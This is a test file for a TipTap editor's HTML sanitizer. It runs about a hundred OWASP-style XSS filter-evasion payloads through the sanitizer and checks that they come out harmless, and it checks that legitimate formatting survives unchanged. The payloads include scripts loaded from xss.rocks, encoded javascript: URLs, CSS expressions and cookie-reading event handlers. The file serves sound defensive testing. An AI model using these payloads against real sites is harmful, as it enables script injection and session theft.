import { describe, expect, it } from "vitest";
// htmlparser2 is sanitize-html's own parser; the test parses the output again with it to
// look at every element and attribute that survived.
import { Parser } from "htmlparser2";
import { HtmlSanitizeError, sanitizeStoredHtml } from "./html-sanitizer";
import { ALLOWED_TAGS } from "../../common/html-allowlist";

interface ParsedElement {
  tag: string;
  attributes: Record<string, string>;
}

function parseElements(html: string): ParsedElement[] {
  const elements: ParsedElement[] = [];
  const parser = new Parser(
    { onopentag: (tag, attributes) => elements.push({ tag, attributes }) },
    {
      decodeEntities: true,
      lowerCaseTags: true,
      lowerCaseAttributeNames: true,
    },
  );
  parser.write(html);
  parser.end();
  return elements;
}

const URL_ATTRIBUTES = [
  "href",
  "src",
  "poster",
  "action",
  "formaction",
  "background",
  "xlink:href",
  "data",
  "dynsrc",
  "lowsrc",
  "srcdoc",
  "cite",
];
// eslint-disable-next-line no-control-regex -- matching control characters is the point
const URL_IGNORED = new RegExp("[\\u0000-\\u0020\\u007f-\\u009f]", "g");
const stripIgnored = (value: string) =>
  value.replace(URL_IGNORED, "").toLowerCase();

/** The properties every sanitised output must have, whatever went in. */
function expectHarmless(output: string) {
  for (const { tag, attributes } of parseElements(output)) {
    expect(
      ALLOWED_TAGS as readonly string[],
      `tag <${tag}> in ${output}`,
    ).toContain(tag);
    for (const [name, value] of Object.entries(attributes)) {
      expect(name.startsWith("on"), `event handler ${name} in ${output}`).toBe(
        false,
      );
      if (URL_ATTRIBUTES.includes(name)) {
        const url = stripIgnored(value);
        expect(url, `${name} in ${output}`).not.toMatch(
          /^(?:javascript|vbscript|livescript|mocha|data:text|data:image\/svg)/,
        );
        if (url.startsWith("data:"))
          expect(url).toMatch(
            /^data:image\/(?:png|gif|jpeg|jpg|bmp|x-icon|vnd\.microsoft\.icon);base64,/,
          );
      }
      if (name === "style") {
        expect(value, `style in ${output}`).not.toMatch(
          /expression|url\s*\(|javascript|behaviou?r|binding|\\|\/\*/i,
        );
      }
    }
  }
  expect(output).not.toMatch(/<\s*script/i);
}

/**
 * OWASP XSS filter-evasion cheat-sheet families, plus a few mutation-XSS and editor-specific
 * ones. Each entry: a name and the payload.
 */
const ATTACKS: Array<[string, string]> = [
  ["basic script", `<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>`],
  ["inline script", `<script>alert(1)</script><p>after</p>`],
  ["img javascript: url", `<IMG SRC="javascript:alert('XSS');">`],
  ["img no quotes", `<IMG SRC=javascript:alert('XSS')>`],
  ["img case insensitive", `<IMG SRC=JaVaScRiPt:alert('XSS')>`],
  ["img html entities", `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`],
  ["img grave accents", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>"],
  [
    "malformed a tag",
    `\\<a onmouseover="alert(document.cookie)"\\>xxs link\\</a\\>`,
  ],
  ["malformed a tag 2", `<a onmouseover=alert(document.cookie)>xxs link</a>`],
  ["malformed img", `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`],
  ["fromCharCode", `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`],
  ["default src with handler", `<IMG SRC=# onmouseover="alert('xxs')">`],
  ["empty src with handler", `<IMG SRC= onmouseover="alert('xxs')">`],
  ["no src with handler", `<IMG onmouseover="alert('xxs')">`],
  [
    "onerror",
    `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  ],
  [
    "onerror encoded",
    `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  ],
  [
    "decimal entities",
    `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  ],
  [
    "decimal entities without semicolons",
    `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
  ],
  [
    "hex entities without semicolons",
    `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  ],
  ["embedded tab", `<IMG SRC="jav\tascript:alert('XSS');">`],
  ["embedded encoded tab", `<IMG SRC="jav&#x09;ascript:alert('XSS');">`],
  ["embedded newline", `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`],
  ["embedded carriage return", `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`],
  ["null byte", `<IMG SRC=java\u0000script:alert("XSS")>`],
  ["spaces and meta chars", `<IMG SRC=" &#14;  javascript:alert('XSS');">`],
  [
    "non-alpha non-digit",
    `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  ],
  ["body onload junk", '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'],
  ["extraneous open brackets", `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`],
  ["no closing script tag", `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`],
  ["protocol resolution", `<SCRIPT SRC=//xss.rocks/.j>`],
  ["half open tag", `<IMG SRC="\`<javascript:alert>\`('XSS')"`],
  ["double open angle", `<iframe src=http://xss.rocks/scriptlet.html <`],
  ["end title", `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`],
  ["input image", `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`],
  ["body background", `<BODY BACKGROUND="javascript:alert('XSS')">`],
  ["img dynsrc", `<IMG DYNSRC="javascript:alert('XSS')">`],
  ["img lowsrc", `<IMG LOWSRC="javascript:alert('XSS')">`],
  [
    "list-style-image",
    `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  ],
  ["vbscript image", `<IMG SRC='vbscript:msgbox("XSS")'>`],
  ["svg onload", `<svg/onload=alert('XSS')>`],
  ["body onload", `<BODY ONLOAD=alert('XSS')>`],
  ["bgsound", `<BGSOUND SRC="javascript:alert('XSS');">`],
  ["javascript includes", `<BR SIZE="&{alert('XSS')}">`],
  [
    "link stylesheet",
    `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  ],
  [
    "style import broken up",
    `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`,
  ],
  [
    "style attribute comment expression",
    `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  ],
  [
    "style expression mixed",
    `exp/*<A STYLE='no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))'>`,
  ],
  [
    "style type javascript",
    `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
  ],
  [
    "style background-image class",
    `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
  ],
  [
    "style body background",
    `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`,
  ],
  [
    "anonymous tag style expression",
    `<XSS STYLE="xss:expression(alert('XSS'))">`,
  ],
  ["behavior htc", `<XSS STYLE="behavior: url(xss.htc);">`],
  [
    "meta refresh",
    `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  ],
  [
    "meta refresh data",
    `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  ],
  ["iframe javascript", `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`],
  [
    "iframe event",
    `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  ],
  [
    "iframe other host",
    `<iframe src="https://evil.example/embed/abc"></iframe>`,
  ],
  [
    "iframe srcdoc",
    `<iframe srcdoc="<script>alert(1)</script>" src="https://www.youtube.com/embed/abc"></iframe>`,
  ],
  ["frame", `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`],
  ["table background", `<TABLE BACKGROUND="javascript:alert('XSS')">`],
  ["td background", `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`],
  [
    "div background-image",
    `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  ],
  [
    "div background-image unicode",
    `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  ],
  [
    "div background-image extra chars",
    `<DIV STYLE="background-image: url(&#1;javascript:alert('XSS'))">`,
  ],
  ["div expression", `<DIV STYLE="width: expression(alert('XSS'));">`],
  [
    "allowed property with expression",
    `<p style="color: expression(alert(1))">x</p>`,
  ],
  [
    "allowed property with url",
    `<span style="background-color: url(javascript:alert(1))">x</span>`,
  ],
  [
    "downlevel-hidden",
    `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
  ],
  ["base href", `<BASE HREF="javascript:alert('XSS');//">`],
  [
    "object",
    `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  ],
  [
    "embed svg",
    `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  ],
  [
    "xml data island",
    `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>`,
  ],
  [
    "ssi",
    `<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT SRC=http://xss.rocks/xss.js></SCRIPT>'"-->`,
  ],
  [
    "meta set-cookie",
    `<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">`,
  ],
  [
    "utf-7",
    `<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-`,
  ],
  [
    "quote encapsulation",
    `<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  ],
  [
    "quote encapsulation 2",
    `<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  ],
  [
    "a href javascript",
    `<A HREF="javascript:document.location='http://www.example.com/'">XSS</A>`,
  ],
  ["a href entity scheme", `<a href="&#x6A;avascript&colon;alert(1)">x</a>`],
  ["a href newline scheme", `<a href="jav&#x0A;ascript:alert(1)">x</a>`],
  ["a href leading spaces", `<a href="   javascript:alert(1)">x</a>`],
  ["a href vbscript", `<a href="vbscript:msgbox(1)">x</a>`],
  [
    "a href data html",
    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  ],
  ["a href null in scheme", `<a href="java&#0;script:alert(1)">x</a>`],
  [
    "img svg data",
    `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  ],
  ["img text data", `<img src="data:text/html,<script>alert(1)</script>">`],
  [
    "noscript mutation",
    `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  ],
  [
    "math mutation",
    `<math><mi//xlink:href="data:x,<script>alert(4)</script>">`,
  ],
  [
    "form action",
    `<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>`,
  ],
  [
    "video poster",
    `<video src="https://example.org/a.mp4" poster="javascript:alert(1)" onloadstart="alert(1)"></video>`,
  ],
  ["video javascript src", `<video src="javascript:alert(1)"></video>`],
  [
    "details ontoggle",
    `<details open ontoggle=alert(1)><summary>x</summary></details>`,
  ],
  ["template", `<template><img src=x onerror=alert(1)></template>`],
  ["input text", `<input type="text" autofocus onfocus="alert(1)">`],
  ["checkbox with handler", `<input type="checkbox" onclick="alert(1)">`],
  ["class and id injection", `<p class="evil" id="login-form">x</p>`],
  [
    "font-family injection",
    `<span style="font-family: x; color: red">x</span>`,
  ],
  ["data-indent out of range", `<p data-indent="99" onclick="x">x</p>`],
  ["dir injection", `<p dir="javascript:alert(1)">x</p>`],
  ["protocol-relative image", `<img src="//evil.example/x.png">`],
  ["backslash host image", `<img src="/\\evil.example/x.png">`],
];

describe("sanitizeStoredHtml: XSS filter-evasion payloads", () => {
  it("covers at least 60 payloads", () => {
    expect(ATTACKS.length).toBeGreaterThanOrEqual(60);
  });

  it.each(ATTACKS)("%s", (_name, payload) => {
    const output = sanitizeStoredHtml(payload);
    expectHarmless(output);
    // Sanitising is idempotent: the stored form sanitises to itself.
    expect(sanitizeStoredHtml(output)).toBe(output);
  });

  it("replaces a bad image source with a blank one instead of dropping the image", () => {
    expect(sanitizeStoredHtml(`<img src="javascript:alert(1)" alt="a">`)).toBe(
      `<img src="" alt="a" />`,
    );
    expect(sanitizeStoredHtml(`<IMG SRC='vbscript:msgbox("XSS")'>`)).toBe(
      `<img src="" />`,
    );
    expect(
      sanitizeStoredHtml(`<img src="data:image/svg+xml;base64,PHN2Zz4=">`),
    ).toBe(`<img src="" />`);
    expect(sanitizeStoredHtml(`<img onerror="x()">`)).toBe(`<img src="" />`);
  });

  it("keeps the text of a link whose target is not allowed, but not the target", () => {
    expect(
      sanitizeStoredHtml(`<p><a href="javascript:alert(1)">click</a></p>`),
    ).toBe(`<p><a>click</a></p>`);
  });

  it("drops scripts and styles with their content, and unknown elements without it", () => {
    expect(sanitizeStoredHtml(`<p>a<script>alert(1)</script>b</p>`)).toBe(
      `<p>ab</p>`,
    );
    expect(sanitizeStoredHtml(`<style>p{}</style><center>kept</center>`)).toBe(
      `kept`,
    );
    expect(sanitizeStoredHtml(`<table><tr><td>cell</td></tr></table>`)).toBe(
      `cell`,
    );
  });

  it("filters styles declaration by declaration", () => {
    expect(
      sanitizeStoredHtml(
        `<span style="color: #ff0000; position: fixed; font-size: 18px">x</span>`,
      ),
    ).toBe(`<span style="color: #ff0000; font-size: 18px;">x</span>`);
    expect(sanitizeStoredHtml(`<span style="font-size: 13px">x</span>`)).toBe(
      `<span>x</span>`,
    );
    expect(sanitizeStoredHtml(`<span style="font-size: 100px">x</span>`)).toBe(
      `<span>x</span>`,
    );
  });

  it("reports an empty document as the empty string", () => {
    expect(sanitizeStoredHtml("")).toBe("");
    expect(sanitizeStoredHtml("<p></p>")).toBe("");
    expect(sanitizeStoredHtml("<p><br></p>")).toBe("");
    expect(sanitizeStoredHtml("<script>x</script>")).toBe("");
  });

  it("turns an e-mail link target into mailto:", () => {
    expect(
      sanitizeStoredHtml(
        `<a href="someone@example.org">someone@example.org</a>`,
      ),
    ).toBe(`<a href="mailto:someone@example.org">someone@example.org</a>`);
  });

  it("is bounded: deeply nested input still finishes", () => {
    const nested = "<div>".repeat(2000) + "x" + "</div>".repeat(2000);
    expect(sanitizeStoredHtml(nested)).toContain("x");
    expect(new HtmlSanitizeError("m").name).toBe("HtmlSanitizeError");
  });
});

/**
 * What the editor writes (copied from TipTap's getHTML() with this editor's extensions):
 * it must come back unchanged. sanitize-html spells void elements "<br />" where TipTap
 * writes "<br>"; that is the only difference allowed.
 */
const LEGITIMATE: Array<[string, string]> = [
  [
    "paragraph marks",
    `<p><strong>bold</strong> <em>italic</em> <u>under</u> <s>strike</s> <code>code</code></p>`,
  ],
  [
    "headings 1-6",
    `<h1>a</h1><h2>b</h2><h3>c</h3><h4>d</h4><h5>e</h5><h6>f</h6>`,
  ],
  [
    "alignment",
    `<p style="text-align: center;">c</p><h2 style="text-align: right;">r</h2><p style="text-align: justify;">j</p>`,
  ],
  [
    "indent",
    `<p data-indent="1" style="margin-inline-start: 2em;">i</p><h3 data-indent="8" style="margin-inline-start: 16em;">i</h3>`,
  ],
  [
    "indent, alignment and direction",
    `<p style="text-align: center; margin-inline-start: 4em;" data-indent="2" dir="rtl">x</p>`,
  ],
  ["direction", `<p dir="rtl">שלום</p>`],
  ["quote", `<blockquote><p>quoted</p></blockquote>`],
  [
    "code block",
    `<pre><code class="language-javascript">const a = 1 &lt; 2;</code></pre>`,
  ],
  [
    "lists",
    `<ul><li><p>one</p></li></ul><ol start="3"><li><p>three</p></li></ol>`,
  ],
  [
    "checked list",
    `<ul data-type="taskList"><li data-checked="true" data-type="taskItem"><label><input type="checkbox" checked="checked"><span></span></label><div><p>done</p></div></li><li data-checked="false" data-type="taskItem"><label><input type="checkbox"><span></span></label><div><p>todo</p></div></li></ul>`,
  ],
  ["sub and superscript", `<p>H<sub>2</sub>O and x<sup>2</sup></p>`],
  [
    "font size",
    `<p><span style="font-size: 18px;">big</span> <span style="font-size: 10px;">small</span></p>`,
  ],
  [
    "font family",
    `<p><span style="font-family: SimSun, &quot;Songti SC&quot;, serif;">宋体</span></p>`,
  ],
  [
    "colour and background",
    `<p><span style="color: rgb(211, 47, 47); background-color: rgb(255, 249, 196);">note</span></p>`,
  ],
  ["hex colour", `<p><span style="color: #d32f2f;">red</span></p>`],
  [
    "highlight mark",
    `<p><mark data-color="#ffeb3b" style="background-color: rgb(255, 235, 59); color: inherit;">hl</mark></p>`,
  ],
  [
    "link",
    `<p><a target="_blank" rel="noopener noreferrer nofollow" href="https://example.org/a?b=1&amp;c=2">site</a></p>`,
  ],
  [
    "mailto link",
    `<p><a target="_blank" rel="noopener noreferrer nofollow" href="mailto:someone@example.org">someone@example.org</a></p>`,
  ],
  ["site link", `<p><a href="/ask?id=3">ask</a></p>`],
  [
    "http image",
    `<p><img src="https://example.org/a.png" alt="a" width="200"></p>`,
  ],
  ["uploaded image", `<p><img src="/files/images/2026/11/abc.png"></p>`],
  [
    "data image",
    `<p><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="></p>`,
  ],
  [
    "youtube",
    `<div data-youtube-video=""><iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?rel=0" width="640" height="360" allowfullscreen="true"></iframe></div>`,
  ],
  [
    "bilibili",
    `<div data-bilibili-video=""><iframe src="https://player.bilibili.com/player.html?bvid=BV1GJ411x7h7&amp;autoplay=0" width="640" height="360" allowfullscreen="true"></iframe></div>`,
  ],
  ["video", `<video src="/files/videos/a.mp4" controls=""></video>`],
  [
    "inline formula",
    `<p>energy <span data-latex="E = mc^2" data-type="inline-math"></span></p>`,
  ],
  [
    "block formula",
    `<div data-latex="\\sum_{i=1}^{n} x_i" data-type="block-math"></div>`,
  ],
  ["chinese text and entities", `<p>“你好” &amp; 欢迎 &lt;tag&gt;</p>`],
  ["line break and rule", `<p>a<br>b</p><hr>`],
];

const voidElementsAsTipTapWritesThem = (html: string) =>
  html.replace(/<(br|hr|img|input)((?:\s[^>]*?)?) \/>/g, "<$1$2>");

describe("sanitizeStoredHtml: legitimate formatting", () => {
  it.each(LEGITIMATE)("%s survives unchanged", (_name, html) => {
    const stored = sanitizeStoredHtml(html);
    expect(voidElementsAsTipTapWritesThem(stored)).toBe(html);
    expect(sanitizeStoredHtml(stored)).toBe(stored);
  });
});
